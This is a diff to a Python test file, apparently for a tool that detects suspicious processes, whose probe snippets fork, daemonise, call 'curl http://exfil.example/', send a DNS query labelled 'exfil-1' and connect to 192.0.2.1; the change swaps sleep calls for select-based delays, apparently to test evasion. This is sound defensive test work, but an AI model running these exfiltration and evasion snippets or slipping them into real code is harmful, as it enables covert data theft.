@@ -19,7 +19,7 @@ import threading
 if (pid := os.fork()) == 0:
     words = ["sh", "-c", "curl http://exfil.example/; exit 0"]
     threading.Thread(target=os.execv, args=("/bin/sh", words)).start()
-    time.sleep(60)
+    __import__('select').select([], [], [], 60)
 os.waitpid(pid, 0)
 """
     add_probe(index, source)
@@ -93,7 +93,7 @@ def test_who_keeps_the_resolver_waiting_is_seen(triage: Triage, index: Index) ->
     source = """
 question = b"id\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7exfil-1\\0\\0\\1\\0\\1"
 with socket.create_connection(("127.0.0.1", 53)) as sock:
-    time.sleep(1.5)
+    __import__('select').select([], [], [], 1.5)
     sock.sendall(len(question).to_bytes(2, "big") + question)
 """
     add_probe(index, source)
@@ -540,7 +540,7 @@ if os.fork() == 0:
     os.setsid()
     if os.fork() == 0:
         os.closerange(0, 3)
-        time.sleep(60)
+        __import__('select').select([], [], [], 60)
         socket.socket().connect_ex(("192.0.2.1", 443))
     os._exit(0)
 """
